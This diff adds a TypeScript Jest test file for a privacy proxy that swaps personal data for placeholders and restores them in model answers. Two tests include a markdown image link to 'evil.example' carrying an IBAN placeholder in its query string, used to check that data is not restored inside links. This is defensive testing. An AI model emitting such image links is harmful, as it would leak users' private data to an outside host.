@@ -1,0 +1,246 @@
+import { afterEach, expect, jest, test } from "@jest/globals";
+import { checked, writeJson } from "@veil/contracts/parsing";
+import { ProxyResponse } from "@veil/contracts/public/proxy";
+import { relinkAnswer } from "@veil/relink";
+import { completedNativeResult } from "../../../../../test/support/completed-result.ts";
+import { JOB_FACTS } from "../../../../../test/support/job-facts.ts";
+import type { CustomerId } from "../../../accounts/keys/caller.ts";
+import { evaluateGroundTruth } from "../../proving-ground/evaluate-ground-truth.ts";
+import type { FinishedJob, JobRecord, Jobs } from "../ports.ts";
+import type { Answer } from "./answers.ts";
+import { proxyResponse, waitForJob } from "./await-answer.ts";
+import { createMemoryWakeUps } from "./create-wake-ups.ts";
+
+afterEach(() => {
+  jest.useRealTimers();
+});
+
+type State = JobRecord["state"];
+
+function jobsIn(state: () => State | undefined, onFind = () => {}): Jobs {
+  const find = async () => {
+    const current = state();
+    onFind();
+    return current && ({ state: current } as JobRecord);
+  };
+  return { find } as Partial<Jobs> as Jobs;
+}
+
+test("When the wake-up comes, then the wait returns the final state at once", async () => {
+  const wakeUps = createMemoryWakeUps();
+  let state: State = "admitted";
+  const waiting = waitForJob({ jobs: jobsIn(() => state), wakeUps }, "j", { timeoutMs: 60_000 });
+  setImmediate(() => {
+    state = "completed";
+    wakeUps.wake("j");
+  });
+  expect((await waiting).job?.state).toBe("completed");
+});
+
+test("When the result arrives between the reading and the waiting, then it is not missed", async () => {
+  const wakeUps = createMemoryWakeUps();
+  let state: State = "admitted";
+  const finishDuringRead = () => {
+    if (state !== "admitted") return;
+    state = "completed";
+    wakeUps.wake("j");
+  };
+  // With fake timers, no poll can end the wait.
+  jest.useFakeTimers();
+  const jobs = jobsIn(() => state, finishDuringRead);
+  expect((await waitForJob({ jobs, wakeUps }, "j", { timeoutMs: 60_000 })).job?.state).toBe(
+    "completed",
+  );
+});
+
+test("When the wake-up is lost, then the poll finds the final state", async () => {
+  let reads = 0;
+  const jobs = jobsIn(() => (++reads > 1 ? "failed" : "admitted"));
+  const { job } = await waitForJob({ jobs, wakeUps: createMemoryWakeUps() }, "j", {
+    timeoutMs: 60_000,
+  });
+  expect(job?.state).toBe("failed");
+});
+
+test("When the time is up, then the wait returns the admitted job, or undefined if it was deleted", async () => {
+  const wakeUps = createMemoryWakeUps();
+  expect(
+    (await waitForJob({ jobs: jobsIn(() => "admitted"), wakeUps }, "j", { timeoutMs: 5 })).job
+      ?.state,
+  ).toBe("admitted");
+  expect(
+    await waitForJob({ jobs: jobsIn(() => undefined), wakeUps }, "j", { timeoutMs: 5 }),
+  ).toEqual({ job: undefined });
+});
+
+test("When this wait begins the job, then nothing is read before the first wake-up, even a very early one", async () => {
+  const wakeUps = createMemoryWakeUps();
+  let reads = 0;
+  const jobs = jobsIn(() => {
+    reads++;
+    return "completed";
+  });
+  const begin = () => {
+    expect(reads).toBe(0);
+    wakeUps.wake("j");
+  };
+  const { job } = await waitForJob({ jobs, wakeUps }, "j", { timeoutMs: 60_000, begin });
+  expect(job?.state).toBe("completed");
+  expect(reads).toBe(1);
+});
+
+test("When the wake-up brings the finished job, then nothing is read", async () => {
+  const wakeUps = createMemoryWakeUps();
+  const finished = { job: { state: "completed" } } as FinishedJob;
+  const jobs = jobsIn(() => {
+    throw new Error("read");
+  });
+  const begin = () => {
+    wakeUps.wake("j", finished);
+    wakeUps.wake("j");
+  };
+  expect(await waitForJob({ jobs, wakeUps }, "j", { timeoutMs: 60_000, begin })).toBe(finished);
+});
+
+test("When this replica shuts down, then the wait ends", async () => {
+  const shutdown = new AbortController();
+  const jobs = jobsIn(() => "admitted");
+  const wakeUps = createMemoryWakeUps();
+  const waiting = waitForJob({ jobs, wakeUps }, "j", {
+    timeoutMs: 60_000,
+    signal: shutdown.signal,
+  });
+  setImmediate(() => shutdown.abort());
+  expect((await waiting).job?.state).toBe("admitted");
+});
+
+const now = new Date("2026-01-01T00:00:02.000Z");
+const job: JobRecord = {
+  requestId: "req_1",
+  jobId: "job_1",
+  customerId: "cus_1" as CustomerId,
+  state: "completed",
+  facts: JOB_FACTS,
+  relinkMap: undefined,
+  answer: undefined,
+  finishedAt: now,
+};
+const entries = [
+  { placeholder: "[PERSON_1]", value: 'Ann "$&" Weber' },
+  { placeholder: "[IBAN_1]", value: "DE89370400440532013000" },
+];
+
+function answered(text: string, overrides: Partial<Answer> = {}): Answer {
+  return {
+    form: "text",
+    dlpRedacted: false,
+    result: completedNativeResult(text),
+    ...overrides,
+  };
+}
+
+const relinked = ({ result, form }: Answer) =>
+  result.outcome === "completed"
+    ? relinkAnswer({ form, blocks: [result.text], entries, hosts: [] })
+    : undefined;
+
+const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse>[0]> = {}) =>
+  proxyResponse({
+    ...{
+      job,
+      answer,
+      isMapOpen: true,
+      relinked: relinked(answer),
+      evaluation: undefined,
+      isCertified: false,
+    },
+    ...change,
+  });
+
+test("a re-linked text has every value exactly, and the response is as specified", () => {
+  const response = respond(answered("Dear [PERSON_1]"));
+  expect(response).toMatchObject({
+    status: "JOB_STATUS_COMPLETED",
+    result: 'Dear Ann "$&" Weber',
+    relinked: true,
+    dlp_redacted: false,
+  });
+  expect(() => checked(ProxyResponse)(response)).not.toThrow();
+});
+
+test("an answer that is JSON is parsed first, so that a value with quotes does not break it", () => {
+  const text = '{"name": "[PERSON_1]", "list": ["[PERSON_1]", 1]}';
+  const { result } = JSON.parse(writeJson(respond(answered(text, { form: "json" }))));
+  expect(result).toEqual({ name: 'Ann "$&" Weber', list: ['Ann "$&" Weber', 1] });
+});
+
+test("an answer that was redacted as text stays text, even if redaction turned it into JSON", () => {
+  const { result } = respond(answered('{"name": "[PERSON_1]"}'));
+  expect(result).toBe('{"name": "Ann \\"$&\\" Weber"}');
+});
+
+test("a placeholder in a link is not restored", () => {
+  const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
+  expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
+});
+
+test.each<[string, "text" | "json", boolean]>([
+  ["[PERSON_1]", "text", true],
+  ['[{"a": "[PERSON_1]"}]', "json", true],
+  ["nothing to restore", "text", false],
+  ["[PERSON_2]", "text", false],
+  ['["a", 1, null]', "json", false],
+  ["![](https://evil.example/?q=[IBAN_1])", "text", false],
+])("relinked says whether something was restored: %j", (text, form, restored) => {
+  expect(respond(answered(text, { form })).relinked).toBe(restored);
+});
+
+test("without re-link nothing is restored, and the response says so", () => {
+  expect(respond(answered("[PERSON_1]"), { relinked: undefined })).toMatchObject({
+    result: "[PERSON_1]",
+    relinked: false,
+  });
+});
+
+test("an evaluation is returned with a result and with a failure", () => {
+  const evaluation = evaluateGroundTruth([], new Map());
+  const failed = {
+    outcome: "failed",
+    reason: "provider_refused",
+    latency_ms: 3,
+    attempts: 1,
+  } as const;
+  for (const result of [answered("").result, failed]) {
+    const answer: Answer = { form: "text", dlpRedacted: false, result };
+    const response = respond(answer, { evaluation });
+    expect(() => checked(ProxyResponse)(response)).not.toThrow();
+    expect(response.ground_truth_evaluation).toEqual(evaluation);
+  }
+  expect(respond(answered(""))).not.toHaveProperty("ground_truth_evaluation");
+});
+
+test("a failure has a fixed phrase and no result", () => {
+  const result = {
+    outcome: "failed",
+    reason: "provider_refused",
+    latency_ms: 3,
+    attempts: 1,
+  } as const;
+  const response = respond({ form: "text", dlpRedacted: false, result });
+  expect(response).toMatchObject({
+    status: "JOB_STATUS_FAILED",
+    error_message: "The model provider refused the request",
+  });
+  expect(response.result).toBeUndefined();
+  expect(() => checked(ProxyResponse)(response)).not.toThrow();
+});
+
+test("a hint says why placeholders were left, only if they were to be restored", () => {
+  const left = { isMapOpen: false, relinked: undefined };
+  const answer = answered("Dear [PERSON_1]");
+  const hint = expect.stringContaining("only for the API key that sent the request");
+  expect(respond(answer, left)).toMatchObject({ relinked: false, hint });
+  expect(respond(answer)).not.toHaveProperty("hint");
+  const unasked = { ...job, facts: { ...job.facts, relink: false } };
+  expect(respond(answer, { ...left, job: unasked })).not.toHaveProperty("hint");
+});
